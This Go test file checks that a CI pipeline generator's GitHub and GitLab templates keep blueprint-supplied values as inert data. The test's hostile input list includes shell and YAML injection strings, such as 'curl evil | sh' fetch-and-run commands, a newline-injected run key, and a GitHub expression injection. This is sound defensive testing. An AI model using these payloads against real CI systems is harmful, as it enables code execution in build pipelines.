package ci

import (
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"

	"github.com/gantry-dev/gantry/blueprints"
	"github.com/gantry-dev/gantry/generators"
	"github.com/gantry-dev/gantry/templates"
)

// TestHostileValuesStayData renders both pipelines with values validation would reject (quotes, new
// lines, `${{ }}`, `$(...)`, YAML syntax) in every field that comes from a blueprint, and checks that
// each parses back as exactly that value and that no script contains any of it: a value can neither
// break out of its YAML string nor reach a shell as code.
func TestHostileValuesStayData(t *testing.T) {
	hostile := []string{
		`a"; curl evil | sh; echo "`,
		"x\nrun: curl evil | sh",
		"${{ github.event.pull_request.title }}",
		"$(curl evil)`id`",
		"' || true #",
		"- &a [*a] {x: y}: yes",
	}
	goTest, err := testJob("go", "src", blueprints.Build{})
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		mk := func(s string) string { return "HOSTILE" + string(rune('A'+i)) + s }
		pl := &Pipeline{
			Header: generators.Header(mk(h)), Name: mk(h), Source: mk(h), BlueprintDir: mk(h), Output: mk(h),
			ServiceOutput: mk(h), Image: mk(h), Branch: mk(h), Paths: []string{mk(h)},
			EnvList: mk(h), First: mk(h), FirstImage: mk(h), PromotionList: mk(h), Terraform: true,
			Later:    []Promotion{{Env: mk(h), From: mk(h), Image: mk(h)}},
			Registry: Registry{Kind: "acr", Host: mk(h), Name: mk(h), Region: mk(h)}, Test: goTest,
			InstallGantry: installGantry, TerraformVersion: mk(h), KubernetesVersion: mk(h),
			// GoVersion picks the pinned Go image (pin fails on an unpinned version): Gantry's own
			// constant, never a blueprint value.
			GoVersion: goVersion,
			Context:   mk(h), Dockerfile: mk(h), DockerfileDir: mk(h), DockerfileName: mk(h),
		}
		// A blueprint's commands, which validation lets through unless they hold ${{ (which the
		// target refuses too): data in env: and variables, never in a script.
		if cmd := mk(h); !strings.Contains(cmd, "${{") {
			b := blueprints.Build{Command: cmd, Lint: cmd, Test: cmd}
			if pl.Test, err = testJob("go", mk(h), b); err != nil {
				t.Fatal(err)
			}
			if pl.Build, err = buildJob("go", mk(h), b); err != nil {
				t.Fatal(err)
			}
		} else if _, err := testJob("go", "src", blueprints.Build{Test: cmd}); err == nil {
			t.Errorf("command %q reached the pipeline", cmd)
		}
		pre := *pl
		pre.Prebuilt, pre.Test, pre.Build = &Prebuilt{Ref: mk(h), Scan: mk(h)}, nil, nil
		for _, c := range []struct {
			tmpl string
			pl   *Pipeline
		}{{"github.yaml.tmpl", pl}, {"gitlab.yaml.tmpl", pl}, {"github.yaml.tmpl", &pre}, {"gitlab.yaml.tmpl", &pre}} {
			tmpl := c.tmpl
			data, err := templates.Render(tmpl, c.pl)
			if err != nil {
				t.Fatal(err)
			}
			if err := wellFormed(data); err != nil {
				t.Fatalf("%s with %q: %v", tmpl, h, err)
			}
			var doc yaml.Node
			if err := yaml.Unmarshal(data, &doc); err != nil {
				t.Fatal(err)
			}
			for i := 0; i < len(doc.Content[0].Content); i += 2 {
				if k := doc.Content[0].Content[i].Value; k == "run" || strings.HasPrefix(k, "curl") {
					t.Errorf("%s: a value made the top-level key %q", tmpl, k)
				}
			}
			found := 0
			var walk func(n *yaml.Node, script bool)
			walk = func(n *yaml.Node, script bool) {
				if n.Kind == yaml.ScalarNode && strings.Contains(n.Value, "HOSTILE") {
					if script {
						t.Errorf("%s: a blueprint value inside a script: %q", tmpl, n.Value)
					}
					// Whole values, or a value inside Gantry's own text (a step name, a path):
					// never a part of one.
					if !strings.Contains(n.Value, mk(h)) {
						t.Errorf("%s: value %q was altered: %q", tmpl, mk(h), n.Value)
					}
					found++
				}
				for i, c := range n.Content {
					isScript := script
					if n.Kind == yaml.MappingNode && i%2 == 1 {
						k := n.Content[i-1].Value
						isScript = script || k == "run" || k == "script" || k == "before_script"
					}
					walk(c, isScript)
				}
			}
			walk(&doc, false)
			if found < 10 {
				t.Errorf("%s: only %d values found: the test is not seeing the fields", tmpl, found)
			}
		}
	}
}
